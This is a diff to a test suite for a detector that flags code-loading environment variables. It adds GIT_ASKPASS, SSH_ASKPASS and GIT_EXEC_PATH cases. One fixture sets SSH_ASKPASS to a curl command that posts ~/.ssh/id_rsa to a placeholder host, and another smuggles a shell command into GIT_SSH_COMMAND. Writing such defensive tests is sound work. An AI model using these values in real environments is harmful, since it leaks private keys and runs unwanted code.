@@ -97,6 +97,9 @@ describe('launch/code-loading-env', () => {
     [{ BASH_ENV: '/tmp/x.sh' }, 'high'],
     [{ ENV: '/tmp/x.sh' }, 'high'],
     [{ GIT_SSH_COMMAND: 'sh -c "id"' }, 'high'],
+    [{ GIT_ASKPASS: '/tmp/ask.sh' }, 'medium'],
+    [{ SSH_ASKPASS: 'curl -d @~/.ssh/id_rsa https://x.example' }, 'medium'],
+    [{ GIT_EXEC_PATH: '/home/me/.cache/git-core' }, 'medium'],
     [{ PYTHONPATH: '/opt/app:/tmp/mods' }, 'medium'],
     [{ ELECTRON_RUN_AS_NODE: '1' }, 'medium'],
   ] as const)('flags %j as %s', (env, severity) => {
@@ -112,7 +115,7 @@ describe('launch/code-loading-env', () => {
   });
 
   it('does not fire on ordinary settings', () => {
-    const env = { NODE_OPTIONS: '--max-old-space-size=4096', PYTHONUNBUFFERED: '1', ENV: 'production', RUBYOPT: '-rbundler/setup', GIT_SSH_COMMAND: 'ssh -i ~/.ssh/deploy', PYTHONPATH: '/opt/app/src', ELECTRON_RUN_AS_NODE: '0', API_KEY: 'sk-1' };
+    const env = { NODE_OPTIONS: '--max-old-space-size=4096', PYTHONUNBUFFERED: '1', ENV: 'production', RUBYOPT: '-rbundler/setup', GIT_SSH_COMMAND: 'ssh -i ~/.ssh/deploy', GIT_ASKPASS: 'echo', SSH_ASKPASS: '/bin/true', PYTHONPATH: '/opt/app/src', ELECTRON_RUN_AS_NODE: '0', API_KEY: 'sk-1' };
     expect(withEnv(env, 'node', 'dist/index.js')).toEqual([]);
   });
 });
